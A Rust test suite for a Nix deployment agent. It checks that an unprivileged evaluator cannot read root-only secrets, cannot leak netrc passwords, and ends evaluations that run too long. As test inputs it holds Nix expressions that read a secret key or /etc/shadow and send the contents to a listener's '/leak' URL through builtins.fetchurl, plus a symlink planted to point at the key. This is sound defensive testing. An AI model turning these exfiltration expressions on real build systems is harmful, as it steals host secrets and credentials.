//! Evaluating as a user that can open nothing, through a real daemon: what commits
//! can do then, and what stays as it was.

mod derivations;
mod ears;

pub(crate) use self::ears::Ears;
use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, chown};
use std::sync::{Arc, Mutex};

use fort_agent::core::status::Unconfined;
use fort_agent::nix::evaluator::{Evaluator, Lent, Way};
use fort_agent::nix::realise::Fetching;

use super::failures::imports_from_a_build;
use super::*;
use crate::support::nix::Daemon;

/// Secret that only root can read.
pub(crate) const SECRET: &str = "ROOTS-OWN-HOST-KEY-7f3a";

/// A store with a daemon that everybody can reach, and a user that evaluates.
struct Apart {
    bench: Bench,
    daemon: Daemon,
    evaluator: Evaluator,
    ears: Ears,
}

impl Apart {
    fn new() -> Self {
        Self::with(&[])
    }

    /// The daemon is told these options.
    fn with(options: &[(&str, &str)]) -> Self {
        let bench = Bench::new();
        let dir = bench.store.dir().to_owned();
        mode(&dir, 0o755);
        let daemon = bench.store.daemon_with(options);
        let evaluator = Evaluator::choose(daemon.store(), &dir, Way::Plain).unwrap();
        let at = dir.join("export+a=b");
        let evaluator = Evaluator { exports: Lent { seen: at.clone(), at }, ..evaluator };
        let secret = dir.join("rootonly");
        fs::create_dir(&secret).unwrap();
        mode(&secret, 0o700);
        fs::write(secret.join("key"), SECRET).unwrap();
        mode(&secret.join("key"), 0o600);
        Self { bench, daemon, evaluator, ears: Ears::open() }
    }

    fn spec(&self, commit: Commit) -> RealiseSpec {
        let evaluator = Some(self.evaluator.clone());
        RealiseSpec { nix: self.daemon.nix(), evaluator, ..self.bench.spec(commit) }
    }

    fn realise(&self, spec: &RealiseSpec) -> RealiseOutcome {
        self.bench.realise(spec)
    }

    fn secret(&self) -> PathBuf {
        self.bench.store.dir().join("rootonly")
    }

    /// Commits an expression for the toplevel, which sees the flake's inputs.
    fn toplevel(&self, inputs: &str, arguments: &str, expression: &str) -> Commit {
        let text = format!(
            "{{ {inputs} outputs = {{ self{arguments} }}: {{ \
             nixosConfigurations.joker.config.system.build.toplevel = {expression}; }}; }}"
        );
        self.bench.repository.write("flake.nix", &text).commit("Describe")
    }

    /// An expression that sends a text away and makes a derivation of it.
    fn sends(&self, text: &str) -> String {
        let url = format!("http://{}/leak?${{{text}}}", self.ears.address());
        let sha256 = "0".repeat(64);
        format!(
            "derivation {{ name = \"x\"; system = \"{}\"; builder = \"/bin/sh\"; args = [ {text} \
             (builtins.fetchurl {{ url = \"{url}\"; sha256 = \"{sha256}\"; }}) ]; }}",
            Host::new("").platform
        )
    }

    /// Nothing of the secret is in the store, or was sent.
    #[track_caller]
    fn nothing_leaked(&self, what: &str) {
        let found = files_with(SECRET, &self.bench.store.dir().join("store"));
        assert_eq!(found, Vec::<PathBuf>::new(), "{what}");
        let heard = self.ears.heard();
        assert!(!heard.iter().any(|request| request.contains(SECRET)), "{what}: {heard:?}");
    }
}

fn mode(path: &Path, mode: u32) {
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// The regular files below a directory that have a text in them.
pub(crate) fn files_with(text: &str, below: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(below).into_iter().flatten().flatten() {
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            found.extend(files_with(text, &entry.path()));
        } else if kind.is_file() {
            let bytes = fs::read(entry.path()).unwrap_or_default();
            if bytes.windows(text.len()).any(|window| window == text.as_bytes()) {
                found.push(entry.path());
            }
        }
    }
    found
}

/// Contents of the file that the server has.
const FILE: &str = "hello";
/// SHA-256 of [`FILE`], in hexadecimal.
const FILE_SHA256: &str = "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824";

/// A lock file whose one input has this lock, and a hash that is not its own.
fn lock(locked: &str) -> String {
    let hash = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
    format!(
        r#"{{"nodes":{{"root":{{"inputs":{{"s":"s"}}}},"s":{{"flake":false,
            "locked":{{{locked},"lastModified":1,"narHash":"{hash}"}},
            "original":{{{locked}}}}}}},"root":"root","version":7}}"#
    )
}

#[test]
fn what_only_root_can_read_is_not_read_by_a_flake() {
    let apart = Apart::new();
    let dir = apart.secret().display().to_string();
    let git = |arguments: &[&str]| {
        let mut command = Command::new("git");
        command.arg("-C").arg(apart.secret()).args(["-c", "user.name=a", "-c", "user.email=a@b"]);
        assert!(command.args(arguments).output().unwrap().status.success());
    };
    git(&["init", "--quiet"]);
    git(&["add", "key"]);
    git(&["commit", "--quiet", "--message", "Keep"]);
    let head = fs::read_to_string(apart.secret().join(".git/refs/heads/master"))
        .or_else(|_| fs::read_to_string(apart.secret().join(".git/refs/heads/main")))
        .unwrap();
    let head = head.trim();
    let cases = [
        (
            "a directory",
            format!("path:{dir}"),
            format!("\"type\":\"path\",\"path\":\"{dir}\""),
            "s + \"/key\"",
        ),
        (
            "a file",
            format!("file://{dir}/key"),
            format!("\"type\":\"file\",\"url\":\"file://{dir}/key\""),
            "s",
        ),
        (
            "a repository",
            format!("git+file://{dir}"),
            format!(
                "\"type\":\"git\",\"url\":\"file://{dir}\",\"rev\":\"{head}\",\"ref\":\"refs/heads/main\",\"revCount\":1"
            ),
            "s + \"/key\"",
        ),
    ];
    for (what, url, locked, key) in &cases {
        let inputs = format!("inputs.s = {{ url = \"{url}\"; flake = false; }};");
        let sends = apart.sends(&format!("(builtins.readFile ({key}))"));
        apart.bench.repository.write("flake.lock", &lock(locked));
        let commit = apart.toplevel(&inputs, ", s", &sends);
        let outcome = apart.realise(&apart.spec(commit));
        let RealiseOutcome::EvaluationFailed { cause, tail } = outcome else {
            panic!("{what}: {outcome:?}")
        };
        assert!(!cause.contains(SECRET) && !tail.contains(SECRET), "{what}: {tail}");
        apart.nothing_leaked(what);
    }
    // It is the user that makes the difference, and nothing else.
    apart.bench.repository.write("flake.lock", &lock(&cases[0].2));
    let inputs = format!("inputs.s = {{ url = \"{}\"; flake = false; }};", cases[0].1);
    let commit = apart.toplevel(&inputs, ", s", "builtins.readFile (s + \"/key\")");
    let as_root = RealiseSpec { evaluator: None, ..apart.spec(commit) };
    apart.realise(&as_root);
    assert!(!files_with(SECRET, &apart.bench.store.dir().join("store")).is_empty());
}

#[test]
fn what_only_root_can_read_is_not_read_by_a_file() {
    let apart = Apart::new();
    let key = apart.secret().join("key");
    let reads = format!("(builtins.readFile \"{}\")", key.display());
    let copies = format!("(builtins.path {{ name = \"k\"; path = \"{}\"; }})", key.display());
    for read in [&reads, &copies, &"(builtins.readFile \"/etc/shadow\")".to_owned()] {
        let text = format!(
            "{{ nixosConfigurations.joker.config.system.build.toplevel = {}; }}",
            apart.sends(read)
        );
        let commit = apart.bench.repository.write("default.nix", &text).commit("Read");
        let spec = RealiseSpec { kind: RecipeKind::File, ..apart.spec(commit) };
        let outcome = apart.realise(&spec);
        let RealiseOutcome::EvaluationFailed { cause, .. } = outcome else { panic!("{outcome:?}") };
        assert!(cause.contains("Permission denied"), "{cause}");
        apart.nothing_leaked(read);
        assert_eq!(apart.ears.heard(), Vec::<String>::new());
    }
    // Nor when it is asked which hosts there are, whose names are shown.
    let text = format!("{{ nixosConfigurations = {{ ${{{reads}}} = 1; }}; }}");
    let commit = apart.bench.repository.write("default.nix", &text).commit("Name");
    let spec = RealiseSpec { kind: RecipeKind::File, ..apart.spec(commit) };
    let outcome = apart.realise(&spec);
    assert!(matches!(outcome, RealiseOutcome::EvaluationFailed { .. }), "{outcome:?}");
    let RealiseOutcome::NoSuchHost { hosts, .. } =
        apart.realise(&RealiseSpec { evaluator: None, ..spec })
    else {
        panic!("root can read it")
    };
    assert_eq!(hosts, [SECRET]);
}

#[test]
fn no_password_is_sent_while_evaluating() {
    let apart = Apart::new();
    let netrc = apart.bench.store.dir().join("netrc");
    fs::write(&netrc, "machine 127.0.0.1\nlogin fort-agent\npassword the-caches-token\n").unwrap();
    mode(&netrc, 0o600);
    let own = apart.bench.store.dir().join("own-netrc");
    fs::write(&own, "machine 127.0.0.1 login me password the-hosts-own\n").unwrap();
    let asks = |file: &str| {
        let url = format!("http://{}/{file}", apart.ears.address());
        format!(
            "assert builtins.readFile (builtins.fetchurl {{ url = \"{url}\"; \
             sha256 = \"{FILE_SHA256}\"; }}) == \"{FILE}\"; throw \"it was asked\""
        )
    };
    let realise_with = |spec: &RealiseSpec| {
        let with_netrc = spec.nix.with(Vec::new(), Some(&netrc));
        let lost = || -> std::pin::Pin<Box<dyn Future<Output = bool>>> {
            Box::pin(std::future::ready(false))
        };
        let fetching = Fetching { nix: &with_netrc, lost: &lost };
        let outcome = block(realise(spec, Some(fetching), |_| (), pending()));
        let RealiseOutcome::EvaluationFailed { cause, .. } = outcome else { panic!("{outcome:?}") };
        assert_eq!(cause, "it was asked");
        let heard = apart.ears.heard();
        heard.last().unwrap().clone()
    };
    let commit = apart.toplevel("", "", &asks("one"));
    let options = [("netrc-file", own.to_str().unwrap())];
    let nix = apart.bench.store.nix_with(apart.daemon.store().to_owned(), &options);
    let heard = realise_with(&RealiseSpec { nix, ..apart.spec(commit) });
    assert!(heard.contains("/one") && !heard.contains("uthorization"), "{heard}");
    // Where no daemon is, and no other user evaluates: not the cache's at least.
    let commit = apart.toplevel("", "", &asks("two"));
    let heard = realise_with(&apart.bench.spec(commit));
    assert!(heard.contains("/two") && !heard.contains("uthorization"), "{heard}");
}

#[test]
fn a_commit_is_the_same_system_whoever_evaluates_it() {
    let apart = Apart::new();
    let mut host = Host::new("one");
    host.knows_commit = true;
    apart.bench.repository.host("joker", &host).host_flake("joker");
    let commit = apart.bench.repository.commit("Describe joker");
    for flake_dir in [".", "hosts/{hostname}"] {
        let spec = RealiseSpec { flake_dir: flake_dir.into(), ..apart.spec(commit) };
        let theirs = built(apart.realise(&spec));
        let ours = RealiseSpec { evaluator: None, nix: apart.bench.store.nix(), ..spec.clone() };
        assert_eq!(theirs, built(apart.realise(&ours)), "{flake_dir}");
        assert_eq!(apart.bench.system_file(&theirs.0, "nixos-version"), "one");
        // Rooted by its link, whose directory the user cannot reach.
        assert_eq!(roots::kept(&spec.out_link).unwrap(), Some(theirs.0));
    }
    // Another commit, in whose repository the user may have left anything.
    let left = apart.evaluator.own.at.join("repositories/one-commit.git");
    if left.exists() {
        fs::remove_file(left.join("HEAD")).unwrap();
        std::os::unix::fs::symlink(apart.secret().join("key"), left.join("HEAD")).unwrap();
    }
    apart.bench.repository.host("joker", &Host::new("two"));
    let commit = apart.bench.repository.commit("Change joker");
    let spec = RealiseSpec { flake_dir: "hosts/joker".into(), ..apart.spec(commit) };
    let (system, _) = built(apart.realise(&spec));
    assert_eq!(apart.bench.system_file(&system, "nixos-version"), "two");
    assert_eq!(fs::read_to_string(apart.secret().join("key")).unwrap(), SECRET);
}

#[test]
fn what_is_built_to_be_evaluated_is_built_by_the_daemon() {
    let apart = Apart::new();
    let commit = imports_from_a_build(&apart.bench, "echo no luck; exit 1", "x: x");
    let outcome = apart.realise(&apart.spec(commit));
    let RealiseOutcome::BuildFailed { cause, .. } = outcome else { panic!("{outcome:?}") };
    assert!(cause.ends_with("no luck"), "{cause}");
    let commit =
        imports_from_a_build(&apart.bench, "echo 1 > $out", "x: throw \"after ${toString x}\"");
    let outcome = apart.realise(&apart.spec(commit));
    let RealiseOutcome::EvaluationFailed { cause, .. } = outcome else { panic!("{outcome:?}") };
    assert_eq!(cause, "after 1");
}

#[test]
fn options_that_a_daemon_takes_from_the_trusted_only_are_no_errors() {
    let apart = Apart::new();
    let options = [("sandbox", "relaxed"), ("extra-sandbox-paths", "/a#b"), ("keep-going", "true")];
    let nix = apart.bench.store.nix_with(apart.daemon.store().to_owned(), &options);
    let commit =
        apart.toplevel("", "", "throw (builtins.seq (builtins.toFile \"a\" \"b\") \"moon\")");
    let outcome = apart.realise(&RealiseSpec { nix, ..apart.spec(commit) });
    let RealiseOutcome::EvaluationFailed { cause, .. } = outcome else { panic!("{outcome:?}") };
    assert_eq!(cause, "moon");
}

#[test]
fn a_user_that_the_daemon_does_not_let_in_is_named() {
    let apart = Apart::with(&[("allowed-users", "root")]);
    let commit = apart.bench.repository.host("joker", &Host::new("one")).commit("Describe joker");
    let outcome = apart.realise(&apart.spec(commit));
    let RealiseOutcome::Broken { cause, .. } = outcome else { panic!("{outcome:?}") };
    let named = format!("the Nix daemon does not let the user {} in", apart.evaluator.user);
    assert!(cause.starts_with(&named) && cause.contains("allowed-users"), "{cause}");
}

#[test]
fn an_evaluation_that_takes_too_long_or_is_not_wanted_is_ended() {
    let mark = "slow-evaluation-90c4";
    let apart = Apart::new();
    let commit = imports_from_a_build(&apart.bench, "\\\"$tools/busybox\\\" sleep 300", "x: x");
    let text = fs::read_to_string(apart.bench.repository.dir().join("systems.nix")).unwrap();
    let marked = text.replace(
        "name = \"made\";",
        &format!("name = \"made\"; tools = \"${{./tools}}\"; FIXTURE_MARK = \"{mark}\";"),
    );
    assert_ne!(text, marked);
    let _ = commit;
    let commit = apart.bench.repository.write("systems.nix", &marked).commit("Slow");
    let spec = RealiseSpec { timeout: Duration::from_secs(3), ..apart.spec(commit) };
    let mut building = false;
    let note = |progress: Progress| building |= progress.phase == Phase::Building;
    assert_eq!(block(realise(&spec, None, note, pending())), RealiseOutcome::TimedOut);
    assert!(building, "what is evaluated is built first");
    eventually("the builder has gone", || processes_with(mark).is_empty());

    let (begun, seen) = tokio::sync::oneshot::channel::<()>();
    let mut begun = Some(begun);
    let outcome = block(realise(
        &apart.spec(commit),
        None,
        |progress| {
            if progress.phase == Phase::Building
                && let Some(begun) = begun.take()
            {
                eventually("a builder runs", || !processes_with(mark).is_empty());
                begun.send(()).unwrap();
            }
        },
        async { seen.await.unwrap_or_default() },
    ));
    assert_eq!(outcome, RealiseOutcome::Cancelled);
    eventually("the builder has gone", || processes_with(mark).is_empty());
}
